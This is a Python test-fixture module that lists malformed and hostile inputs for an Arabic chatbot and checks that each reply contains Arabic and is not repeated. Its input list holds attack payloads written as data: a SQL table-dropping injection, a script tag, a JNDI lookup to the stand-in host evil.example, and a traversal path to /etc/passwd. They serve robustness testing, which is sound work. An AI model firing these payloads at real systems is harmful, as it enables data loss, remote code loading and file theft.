"""The battery of bad inputs every channel must survive, and what counts as surviving.

User-facing inputs (what a person could type or paste) must get a clear Arabic reply:
at least one message with Arabic text, no message repeated, within a time limit.
Protocol-level garbage (broken JSON, wrong types) must get a 4xx, never a 5xx or a
hang, and must leave the server working.
"""

from __future__ import annotations

import re

_SENTENCE = "وش شروط الضمان المطور وكيف اقدم عليه "

USER_INPUTS: dict[str, str] = {
    "empty": "",
    "whitespace_only": "   \n\t  ",
    "long_5000_chars": (_SENTENCE * 200)[:5000],
    "long_100000_chars": (_SENTENCE * 3000)[:100_000],
    "emoji_only": "😀🙏🏽👍🔥",
    "mixed_scripts": "hello مرحبا привет 你好 ١٢٣ abc",
    "huge_number": "دخلي 99999999999999999999999999999 ريال",
    "huge_number_arabic_digits": "عمري " + "١" * 300,
    "sql_injection": "'; DROP TABLE events; --",
    "html_injection": "<script>alert('x')</script>",
    "template_injection": "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "path_traversal": "../../../../etc/passwd",
    "intent_injection": "/restart",
    "entity_injection": '/check_status{"national_id":"1000000008"}',
    "control_characters": "مرحبا\u0000\u0007\u202e",
    "lone_surrogate": "مرحبا \ud83d",  # sent as the JSON escape \ud83d: not valid Unicode text
}

# Seconds a user may wait for any reply, even to absurd input.
REPLY_LIMIT_S = 30.0
_ARABIC = re.compile(r"[\u0600-\u06FF]")


def reply_problem(texts: list[str]) -> str:
    """Why a list of bot texts is not a clear Arabic reply ("" when it is)."""
    if not texts:
        return "no reply at all"
    if not any(_ARABIC.search(text or "") for text in texts):
        return f"no Arabic in the reply: {texts!r}"
    repeated = sorted({text for text in texts if texts.count(text) > 1})
    if repeated:
        return f"the same message {max(texts.count(t) for t in repeated)} times: {repeated[0][:60]!r}"
    return ""
